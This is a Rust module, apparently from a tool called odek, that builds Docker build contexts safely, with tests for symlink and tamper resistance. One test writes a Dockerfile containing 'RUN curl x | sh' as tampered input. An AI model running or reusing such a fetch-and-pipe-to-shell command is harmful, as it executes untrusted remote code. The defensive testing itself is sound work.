//! The build context for `Dockerfile.odek`: the working directory as a tar,
//! minus what `.dockerignore` excludes (Docker's rules: patterns relative to
//! the context root, `*` does not cross `/`, `**` does, `!` re-includes, the
//! last matching pattern wins, an excluded directory excludes its contents).
//! The Dockerfile and `.dockerignore` are always sent, as the Docker CLI does.
//!
//! What is approved must be what is built (SPEC §5, §7): the Dockerfile is
//! read once ([`read_dockerfile`]), its hash compared with the approved one,
//! and exactly those bytes go into the context — the file is never read
//! again by path. The directory is walked through file descriptors, never
//! by path: each directory is opened relative to its parent with
//! `O_NOFOLLOW | O_DIRECTORY`, each file with `O_NOFOLLOW`, starting from
//! `/`, so a symlink is stored as a link and never followed, even one swapped
//! in while the walk runs. An entry that changes kind while it is read (a
//! directory or file that became a symlink, a file that became something
//! else) refuses the build: the context would not be the directory that was
//! listed. A symlinked `.dockerignore` is refused too (its lines could echo
//! a file from elsewhere in an error); entries that vanish during the walk
//! are left out; sockets, FIFOs and devices are never sent.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use globset::{GlobBuilder, GlobMatcher};
use rustix::fs::{AtFlags, FileType, Mode, OFlags};
use rustix::io::Errno;

use crate::safe_open::{self, MAX_DOCKERFILE_BYTES, MAX_DOCKERIGNORE_BYTES};

/// Parsed `.dockerignore` patterns.
pub(crate) struct DockerIgnore {
    rules: Vec<(GlobMatcher, bool)>,
}

impl DockerIgnore {
    /// Parses `.dockerignore` text. Errors name the bad pattern.
    pub(crate) fn parse(text: &str) -> Result<DockerIgnore, String> {
        let mut rules = Vec::new();
        for line in text.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let (negate, pat) = match line.strip_prefix('!') {
                Some(p) => (true, p.trim()),
                None => (false, line),
            };
            let pat = clean(pat);
            if pat.is_empty() {
                continue;
            }
            let pat = pat.replace("[^", "[!");
            let glob = GlobBuilder::new(&pat)
                .literal_separator(true)
                .backslash_escape(true)
                .build()
                .map_err(|e| format!(".dockerignore pattern {line:?}: {e}"))?;
            rules.push((glob.compile_matcher(), negate));
        }
        Ok(DockerIgnore { rules })
    }

    /// True when `rel` (relative, `/`-separated) or one of its parent
    /// directories is excluded.
    pub(crate) fn excluded(&self, rel: &str) -> bool {
        let mut excluded = false;
        for (glob, negate) in &self.rules {
            let mut hit = glob.is_match(rel);
            if !hit {
                // A pattern matching a parent directory matches its contents.
                let mut p = rel;
                while let Some(i) = p.rfind('/') {
                    p = &p[..i];
                    if glob.is_match(p) {
                        hit = true;
                        break;
                    }
                }
            }
            if hit {
                excluded = !negate;
            }
        }
        excluded
    }
}

/// `filepath.Clean` for patterns, without a leading `/` or `./`.
fn clean(p: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            c => parts.push(c),
        }
    }
    parts.join("/")
}

/// Reads the Dockerfile `name` in the directory `dir` once, without
/// following a symlink anywhere on the way, at most
/// [`MAX_DOCKERFILE_BYTES`] ([`crate::safe_open`]). Errors are reasons:
/// missing, a symlink, not a regular file, too large, unreadable.
pub(crate) fn read_dockerfile(dir: &Path, name: &str) -> Result<Vec<u8>, String> {
    safe_open::read_in(dir, name, MAX_DOCKERFILE_BYTES)
        .map_err(|e| format!("it {e}"))?
        .ok_or_else(|| "it no longer exists".to_string())
}

/// A tar header for an entry of `kind` with `st`'s mode, owner and time.
fn header(kind: tar::EntryType, st: Option<&rustix::fs::Stat>, size: u64) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_size(size);
    match st {
        Some(st) => {
            h.set_mode(st.st_mode & 0o7777);
            h.set_uid(u64::from(st.st_uid));
            h.set_gid(u64::from(st.st_gid));
            h.set_mtime(u64::try_from(st.st_mtime).unwrap_or(0));
        }
        None => h.set_mode(0o644),
    }
    h
}

/// Tars the directory `dir` (absolute) as a build context, honouring its
/// `.dockerignore` and leaving out every path in `exclude` (e.g.
/// `$ODEK_HOME` when it lies inside). The Dockerfile `dockerfile` (a name
/// in `dir`) is stored with the contents `dockerfile_bytes`, whatever the
/// directory holds now. Walked through file descriptors (module doc):
/// symlinks are stored as links, never followed. Errors are messages; an
/// entry that changed kind during the walk is one.
/// The most bytes of file content a build context may hold: odek builds the
/// context in memory, so a larger one (a repository's sparse 200 GB file, an
/// agent's build output) is refused, naming `.dockerignore` as the fix,
/// before it is read.
pub(crate) const MAX_BUILD_CONTEXT_BYTES: u64 = 512 << 20;

pub(crate) fn build_context(
    dir: &Path,
    dockerfile: &str,
    dockerfile_bytes: &[u8],
    exclude: &[PathBuf],
) -> Result<Vec<u8>, String> {
    build_context_within(
        dir,
        dockerfile,
        dockerfile_bytes,
        exclude,
        MAX_BUILD_CONTEXT_BYTES,
    )
}

/// [`build_context`] with the cap `cap` (bytes of content plus a cost per
/// entry) in place of [`MAX_BUILD_CONTEXT_BYTES`].
fn build_context_within(
    dir: &Path,
    dockerfile: &str,
    dockerfile_bytes: &[u8],
    exclude: &[PathBuf],
    cap: u64,
) -> Result<Vec<u8>, String> {
    let root = safe_open::open_dir(dir, true)?;
    let ignore_bytes =
        safe_open::read_at(&root, OsStr::new(".dockerignore"), MAX_DOCKERIGNORE_BYTES)
            .map_err(|e| format!(".dockerignore {e}; .dockerignore must be a regular file"))?;
    let ignore = match &ignore_bytes {
        Some((b, _)) => DockerIgnore::parse(&String::from_utf8_lossy(b))?,
        None => DockerIgnore { rules: Vec::new() },
    };
    let mut tar = tar::Builder::new(Vec::new());
    let add = |tar: &mut tar::Builder<Vec<u8>>, h: &mut tar::Header, rel: &Path, data: &[u8]| {
        tar.append_data(h, rel, data)
            .map_err(|e| format!("cannot add {}: {e}", rel.display()))
    };
    add(
        &mut tar,
        &mut header(tar::EntryType::Regular, None, dockerfile_bytes.len() as u64),
        Path::new(dockerfile),
        dockerfile_bytes,
    )?;
    if let Some((b, st)) = &ignore_bytes {
        if dockerfile != ".dockerignore" {
            add(
                &mut tar,
                &mut header(tar::EntryType::Regular, Some(st), b.len() as u64),
                Path::new(".dockerignore"),
                b,
            )?;
        }
    }
    let changed = |rel: &Path, now: &str| {
        format!(
            "{} changed while the build context was read ({now}); nothing was built",
            crate::text::quote(&rel.display().to_string())
        )
    };
    let mut total: u64 = dockerfile_bytes.len() as u64;
    let mut stack = vec![(root, PathBuf::new())];
    while let Some((dir_fd, rel_dir)) = stack.pop() {
        let shown = || dir.join(&rel_dir).display().to_string();
        let mut names: Vec<Vec<u8>> = rustix::fs::Dir::read_from(&dir_fd)
            .map_err(|e| format!("cannot read {}: {e}", shown()))?
            .map(|e| e.map(|e| e.file_name().to_bytes().to_vec()))
            .collect::<Result<_, _>>()
            .map_err(|e| format!("cannot read {}: {e}", shown()))?;
        names.retain(|n| n != b"." && n != b"..");
        names.sort();
        for name in names {
            let name = OsStr::from_bytes(&name);
            let rel = rel_dir.join(name);
            let rel_s = rel.to_string_lossy().replace('\\', "/");
            if exclude.iter().any(|x| dir.join(&rel).starts_with(x)) {
                continue;
            }
            // Sent above, from the bytes already read.
            if rel_s == dockerfile || rel_s == ".dockerignore" {
                continue;
            }
            if ignore.excluded(&rel_s) {
                continue;
            }
            // What each entry costs the in-memory context besides its
            // content: a header, a long name, a link target (bounded too).
            total = total.saturating_add(1024 + 2 * rel_s.len() as u64);
            if total > cap {
                return Err(format!(
                    "the build context is larger than the {} MiB odek sends (at {}: too many entries); leave them out with a .dockerignore entry",
                    cap >> 20,
                    crate::text::quote(&rel.display().to_string())
                ));
            }
            let st = match rustix::fs::statat(&dir_fd, name, AtFlags::SYMLINK_NOFOLLOW) {
                Ok(st) => st,
                Err(Errno::NOENT) => continue,
                Err(e) => return Err(format!("cannot stat {}: {e}", rel.display())),
            };
            match FileType::from_raw_mode(st.st_mode) {
                FileType::Directory => {
                    let fd = match rustix::fs::openat(
                        &dir_fd,
                        name,
                        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                        Mode::empty(),
                    ) {
                        Ok(fd) => fd,
                        Err(Errno::NOENT) => continue,
                        Err(Errno::LOOP | Errno::NOTDIR) => {
                            return Err(changed(
                                &rel,
                                "a directory became a symbolic link or a file",
                            ))
                        }
                        Err(e) => return Err(format!("cannot open {}: {e}", rel.display())),
                    };
                    let st = rustix::fs::fstat(&fd)
                        .map_err(|e| format!("cannot stat {}: {e}", rel.display()))?;
                    add(
                        &mut tar,
                        &mut header(tar::EntryType::Directory, Some(&st), 0),
                        &rel,
                        &[],
                    )?;
                    stack.push((fd, rel));
                }
                // No cap of its own: a context file is what the build sends;
                // the context as a whole has one.
                FileType::RegularFile if total.saturating_add(st.st_size as u64) > cap => {
                    return Err(format!(
                        "the build context is larger than the {} MiB odek sends (at {}, {} bytes); leave large files out with a .dockerignore entry",
                        cap >> 20,
                        crate::text::quote(&rel.display().to_string()),
                        st.st_size
                    ))
                }
                FileType::RegularFile => match safe_open::read_at(
                    &dir_fd,
                    name,
                    cap - total,
                ) {
                    Ok(Some((bytes, st))) => {
                        total += bytes.len() as u64;
                        add(
                            &mut tar,
                            &mut header(tar::EntryType::Regular, Some(&st), bytes.len() as u64),
                            &rel,
                            &bytes,
                        )?
                    }
                    Ok(None) => continue,
                    Err(_) => {
                        return Err(changed(
                            &rel,
                            "a file became a symbolic link or another kind of file",
                        ))
                    }
                },
                FileType::Symlink => {
                    let target = match rustix::fs::readlinkat(&dir_fd, name, Vec::new()) {
                        Ok(t) => t,
                        Err(Errno::NOENT) => continue,
                        Err(Errno::INVAL) => {
                            return Err(changed(
                                &rel,
                                "a symbolic link became another kind of file",
                            ))
                        }
                        Err(e) => {
                            return Err(format!("cannot read the link {}: {e}", rel.display()))
                        }
                    };
                    total = total.saturating_add(target.to_bytes().len() as u64);
                    let target = PathBuf::from(OsStr::from_bytes(target.to_bytes()));
                    tar.append_link(
                        &mut header(tar::EntryType::Symlink, Some(&st), 0),
                        &rel,
                        &target,
                    )
                    .map_err(|e| format!("cannot add {}: {e}", rel.display()))?;
                }
                // Sockets, FIFOs and devices are never sent.
                _ => {}
            }
        }
    }
    tar.into_inner()
        .map_err(|e| format!("cannot finish the build context: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn dockerignore_semantics() {
        let i = DockerIgnore::parse("# c\nnode_modules\n*.log\n!keep.log\n/secret/**\ndocs/*.md\n")
            .expect("valid");
        assert!(i.excluded("node_modules"));
        assert!(i.excluded("node_modules/a/b.js"));
        assert!(i.excluded("x.log"));
        assert!(!i.excluded("keep.log"));
        assert!(!i.excluded("sub/x.log"), "* does not cross /");
        assert!(i.excluded("secret/a/b"));
        assert!(i.excluded("docs/a.md"));
        assert!(!i.excluded("docs/sub/a.md"));
        assert!(!i.excluded("src/main.rs"));
        let i = DockerIgnore::parse("**/*.tmp\n").expect("valid");
        assert!(i.excluded("a/b/c.tmp"));
        assert!(i.excluded("c.tmp"));
    }

    #[test]
    fn context_honours_dockerignore_and_excludes() {
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path();
        std::fs::write(root.join("Dockerfile.odek"), "FROM scratch\n").expect("w");
        std::fs::write(root.join(".dockerignore"), "*.secret\nDockerfile.odek\n").expect("w");
        std::fs::write(root.join("a.txt"), "a").expect("w");
        std::fs::write(root.join("b.secret"), "b").expect("w");
        std::fs::create_dir(root.join(".odek")).expect("mkdir");
        std::fs::write(root.join(".odek/project_sandbox_approvals.json"), "{}").expect("w");
        let tar = build_context(
            root,
            "Dockerfile.odek",
            b"FROM scratch\n",
            &[root.join(".odek")],
        )
        .expect("tar");
        let mut names: Vec<String> = entries(&tar).into_iter().map(|(n, _, _)| n).collect();
        names.sort();
        assert_eq!(names, vec![".dockerignore", "Dockerfile.odek", "a.txt"]);
    }

    #[test]
    fn a_context_over_the_cap_is_refused_before_it_is_read() {
        // A sparse file (no disk used) an agent could leave in /workspace:
        // read into memory it took the host's memory or crashed odek.
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path();
        std::fs::write(root.join("small.txt"), "a").expect("w");
        let big = std::fs::File::create(root.join("big")).expect("create");
        big.set_len(200 << 30).expect("sparse 200 GiB");
        let err = build_context(root, "Dockerfile.odek", b"FROM scratch\n", &[])
            .expect_err("over the cap");
        assert!(
            err.contains("512 MiB") && err.contains(".dockerignore") && err.contains("big"),
            "{err}"
        );
        // Left out with .dockerignore, the context is built.
        std::fs::write(root.join(".dockerignore"), "big\n").expect("w");
        build_context(root, "Dockerfile.odek", b"FROM scratch\n", &[]).expect("within the cap");
    }

    #[test]
    fn entries_without_content_count_against_the_cap_too() {
        // 150,000 symlinks with 4 KB targets held 1.5 GB in memory and
        // counted as nothing (a review): every entry costs its header, name
        // and link target.
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path();
        let target = "t".repeat(3000);
        for i in 0..40 {
            std::os::unix::fs::symlink(&target, root.join(format!("l{i}"))).expect("symlink");
        }
        let err = build_context_within(root, "Dockerfile.odek", b"FROM scratch\n", &[], 64 << 10)
            .expect_err("over a 64 KiB cap");
        assert!(err.contains(".dockerignore"), "{err}");
        build_context_within(root, "Dockerfile.odek", b"FROM scratch\n", &[], 1 << 20)
            .expect("within 1 MiB");
    }

    /// (path, kind, contents or link target) of each entry.
    fn entries(tar: &[u8]) -> Vec<(String, tar::EntryType, Vec<u8>)> {
        let mut ar = tar::Archive::new(tar);
        ar.entries()
            .expect("entries")
            .map(|e| {
                let mut e = e.expect("entry");
                let name = e.path().expect("path").to_string_lossy().into_owned();
                let kind = e.header().entry_type();
                let mut data = Vec::new();
                if kind == tar::EntryType::Symlink {
                    data = e
                        .link_name_bytes()
                        .map(|b| b.into_owned())
                        .unwrap_or_default();
                } else {
                    e.read_to_end(&mut data).expect("read");
                }
                (name.trim_end_matches('/').to_string(), kind, data)
            })
            .collect()
    }

    #[test]
    fn the_tar_carries_the_verified_bytes_not_the_file_on_disk() {
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path().canonicalize().expect("canonical");
        std::fs::write(root.join("Dockerfile.odek"), "FROM evil\nRUN curl x | sh\n").expect("w");
        let tar = build_context(&root, "Dockerfile.odek", b"FROM approved\n", &[]).expect("tar");
        let df: Vec<_> = entries(&tar)
            .into_iter()
            .filter(|(n, _, _)| n == "Dockerfile.odek")
            .collect();
        assert_eq!(df.len(), 1, "one Dockerfile entry");
        assert_eq!(df[0].2, b"FROM approved\n");
        // Even with the file gone from the directory.
        std::fs::remove_file(root.join("Dockerfile.odek")).expect("rm");
        let tar = build_context(&root, "Dockerfile.odek", b"FROM approved\n", &[]).expect("tar");
        assert!(entries(&tar)
            .iter()
            .any(|(n, _, b)| n == "Dockerfile.odek" && b == b"FROM approved\n"));
    }

    #[test]
    fn symlinks_are_stored_as_links_and_never_followed() {
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path().canonicalize().expect("canonical");
        let outside = root.join("outside");
        std::fs::create_dir(&outside).expect("mkdir");
        std::fs::write(outside.join("secret"), "s3cr3t").expect("w");
        let ctx = root.join("ctx");
        std::fs::create_dir_all(ctx.join("sub")).expect("mkdir");
        std::fs::write(ctx.join("sub/a"), "a").expect("w");
        std::os::unix::fs::symlink(&outside, ctx.join("linkdir")).expect("symlink");
        std::os::unix::fs::symlink(outside.join("secret"), ctx.join("linkfile")).expect("symlink");
        let tar = build_context(&ctx, "Dockerfile.odek", b"FROM x\n", &[]).expect("tar");
        let all = entries(&tar);
        let kind = |name: &str| all.iter().find(|(n, _, _)| n == name).map(|(_, k, _)| *k);
        assert_eq!(kind("sub"), Some(tar::EntryType::Directory));
        assert_eq!(kind("sub/a"), Some(tar::EntryType::Regular));
        assert_eq!(kind("linkdir"), Some(tar::EntryType::Symlink));
        assert_eq!(kind("linkfile"), Some(tar::EntryType::Symlink));
        assert!(
            all.iter()
                .all(|(n, _, b)| !n.starts_with("linkdir/") && b != b"s3cr3t"),
            "nothing from outside: {:?}",
            all.iter().map(|(n, _, _)| n).collect::<Vec<_>>()
        );
        // The context directory itself reached through a symlink is refused.
        std::os::unix::fs::symlink(&ctx, root.join("ctxlink")).expect("symlink");
        let e = build_context(&root.join("ctxlink"), "Dockerfile.odek", b"FROM x\n", &[])
            .expect_err("symlinked context");
        assert!(e.contains("symbolic link"), "{e}");
        // A symlinked .dockerignore is refused (its lines could echo a file).
        std::os::unix::fs::symlink(outside.join("secret"), ctx.join(".dockerignore"))
            .expect("symlink");
        let e =
            build_context(&ctx, "Dockerfile.odek", b"FROM x\n", &[]).expect_err("symlinked ignore");
        assert!(e.contains(".dockerignore"), "{e}");
    }

    #[test]
    fn the_dockerfile_is_read_without_following_symlinks() {
        let d = tempfile::tempdir().expect("tempdir");
        let root = d.path().canonicalize().expect("canonical");
        std::fs::write(root.join("real"), "FROM x\n").expect("w");
        assert!(read_dockerfile(&root, "Dockerfile.odek")
            .expect_err("missing")
            .contains("no longer exists"));
        std::os::unix::fs::symlink(root.join("real"), root.join("Dockerfile.odek"))
            .expect("symlink");
        assert!(read_dockerfile(&root, "Dockerfile.odek")
            .expect_err("symlink")
            .contains("symbolic link"));
        std::fs::remove_file(root.join("Dockerfile.odek")).expect("rm");
        std::fs::write(root.join("Dockerfile.odek"), "FROM y\n").expect("w");
        assert_eq!(
            read_dockerfile(&root, "Dockerfile.odek").expect("read"),
            b"FROM y\n"
        );
    }
}
